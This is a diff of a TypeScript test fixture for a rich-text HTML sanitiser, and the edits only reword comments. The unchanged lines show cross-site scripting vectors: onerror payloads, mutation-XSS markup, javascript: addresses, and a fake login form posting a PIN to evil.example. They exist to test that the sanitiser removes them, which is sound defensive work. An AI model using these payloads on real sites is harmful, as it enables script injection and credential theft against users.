@@ -1,14 +1,14 @@
-// HTML that tries to run a script, to load from another host, to take the page over or to confuse a
-// parser, in the ways that are known: each calls `hacked()` where it succeeds.
+// HTML that tries to run a script, load from another host, take the page over or confuse a parser,
+// by known techniques. Each calls `hacked()` if it succeeds.
 import { type DefaultTreeAdapterTypes, parseFragment, serialize } from 'parse5'
 
-/** What a vector calls where it succeeds. */
+/** The function that a successful vector calls. */
 export const call = 'hacked()'
 
-/** A picture of the shop's own, which rich text may have. */
+/** A picture of the shop, which rich text may contain. */
 export const own = `/files/${'a'.repeat(64)}.webp`
 
-/** Every vector, once. */
+/** All vectors, without duplicates. */
 export const richTextVectors: string[] = [
   ...new Set([
     ...scripts(),
@@ -52,7 +52,7 @@ function scripts(): string[] {
   ]
 }
 
-/** An event handler on each kind of element, allowed ones among them, with many spellings of it. */
+/** An event handler on each kind of element, including allowed ones, in many spellings. */
 function handlers(): string[] {
   const elements = [
     'p',
@@ -137,7 +137,7 @@ function foreignContent(): string[] {
   ]
 }
 
-/** Markup that parsers read in different ways. */
+/** Markup that parsers disagree on. */
 function brokenMarkup(): string[] {
   return [
     `<!--><img src=x onerror=${call}>-->`,
@@ -178,7 +178,7 @@ function brokenMarkup(): string[] {
   ]
 }
 
-/** Known ways in which harmless markup turns harmful when it is written and read once more. */
+/** Known mutations: harmless markup that becomes harmful when serialised and parsed again. */
 function mutations(): string[] {
   return [
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
@@ -198,7 +198,7 @@ function mutations(): string[] {
   ]
 }
 
-/** What needs no script: forms, other bases, refreshes, names that shadow the page's own. */
+/** Attacks without a script: forms, base addresses, refreshes, names that shadow the page's own. */
 function takeovers(): string[] {
   return [
     `<form action="https://evil.example"><input name=pin><button>Log in</button></form>`,
@@ -261,7 +261,7 @@ function embedded(): string[] {
   ]
 }
 
-/** Addresses that run, in the places that take addresses. */
+/** Executable addresses in every attribute that takes an address. */
 export function hostileAddresses(): string[] {
   const running = [
     `javascript:${call}`,
@@ -318,7 +318,7 @@ export function hostileAddresses(): string[] {
 type Node = DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment
 type Element = DefaultTreeAdapterTypes.Element
 
-// Said here once more, and not taken from the sanitiser: a word too many there is to be noticed.
+// Repeated here rather than imported, so that an addition to the sanitiser fails a test.
 const elements = new Set(
   'h2 h3 h4 p br hr strong em b i u s sub sup small blockquote pre code ul ol li dl dt dd figure figcaption table caption colgroup thead tbody tfoot tr th td a img'.split(
     ' ',
@@ -343,8 +343,8 @@ const attributes: Record<string, RegExp> = {
 }
 
 /**
- * What in this HTML could do more than be read, as a browser's own parser finds it: read once, and
- * once more as it was written down again. An empty list: it is inert.
+ * The active parts of this HTML by a browser's parser, parsed once and again after serialising.
+ * Empty if inert.
  */
 export function activeParts(html: string): string[] {
   return [true, false].flatMap((scriptingEnabled) => {
